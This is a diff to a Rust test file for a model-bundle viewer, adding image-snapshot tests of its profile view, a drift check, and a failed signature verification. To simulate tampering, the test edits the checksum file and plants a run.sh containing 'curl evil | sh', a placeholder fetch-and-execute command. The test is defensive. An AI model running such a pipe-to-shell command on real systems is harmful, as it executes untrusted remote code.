@@ -6,14 +6,34 @@
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
 
-use egui_kittest::Harness;
 use egui_kittest::kittest::Queryable;
+use egui_kittest::{Harness, SnapshotOptions};
 use lathe_core::bundle::{self, ExportOptions};
 use lathe_core::job::Job;
 use lathe_viewer::{Tab, Viewer};
 
 fn repo() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+/// A demo project's classifier exported unsigned as a folder: what the image snapshots show
+/// (a signed one differs in its random key's fingerprint).
+fn unsigned(tmp: &Path) -> PathBuf {
+    let project =
+        lathe_core::demo::create(&tmp.join("demo"), Default::default(), &Job::silent()).unwrap();
+    let folder = tmp.join("plain");
+    bundle::export(
+        &project,
+        &ExportOptions {
+            model: "breast_cancer_classifier@production".into(),
+            out: folder.clone(),
+            eval_dataset: Some("breast_cancer@2".into()),
+            ..Default::default()
+        },
+        &Job::silent(),
+    )
+    .unwrap();
+    folder
 }
 
 /// A demo project's classifier exported as a signed archive and as a folder.
@@ -220,4 +240,44 @@ fn a_tampered_bundle_names_the_file_and_hostile_archives_are_refused() {
         .map(|e| e.unwrap().path())
         .collect();
     assert_eq!(before, after, "nothing written");
+}
+
+/// Image snapshots (tests/snapshots/, wgpu on a CPU adapter): the views without wall-clock
+/// times or random keys in them. `UPDATE_SNAPSHOTS=true cargo test -p lathe-viewer` rewrites
+/// them after a deliberate change.
+#[test]
+fn image_snapshots_of_the_profile_the_drift_check_and_a_failed_verification() {
+    let tmp = tempfile::tempdir().unwrap();
+    let folder = unsigned(tmp.path());
+    let mut viewer = Viewer::default();
+    viewer.open(&folder);
+    viewer.tab = Tab::Profile;
+    // A few pixels of antialiasing may differ between CPUs; a changed word changes hundreds.
+    let options = SnapshotOptions::new().max_failed_pixels(40);
+    let mut h = Harness::builder()
+        .with_size(egui::vec2(1100.0, 760.0))
+        .with_theme(egui::Theme::Light)
+        .wgpu()
+        .build_ui_state(|ui, viewer: &mut Viewer| viewer.ui(ui), viewer);
+    h.run();
+    assert!(has(&h, "not signed"));
+    h.snapshot_options("reference_profile", &options);
+
+    h.state_mut()
+        .check_drift(&repo().join("assets/datasets/breast_cancer_batch2.csv"));
+    h.state_mut().finish_pending();
+    h.run();
+    h.snapshot_options("drift_check", &options);
+
+    let sums = folder.join("SHA256SUMS");
+    let text = std::fs::read_to_string(&sums)
+        .unwrap()
+        .replacen('a', "b", 1);
+    std::fs::write(&sums, text).unwrap();
+    std::fs::write(folder.join("run.sh"), "curl evil | sh\n").unwrap();
+    h.state_mut().open(&folder);
+    h.state_mut().tab = Tab::Profile;
+    h.run();
+    assert!(has(&h, "Verification failed"));
+    h.snapshot_options("verification_failed", &options);
 }
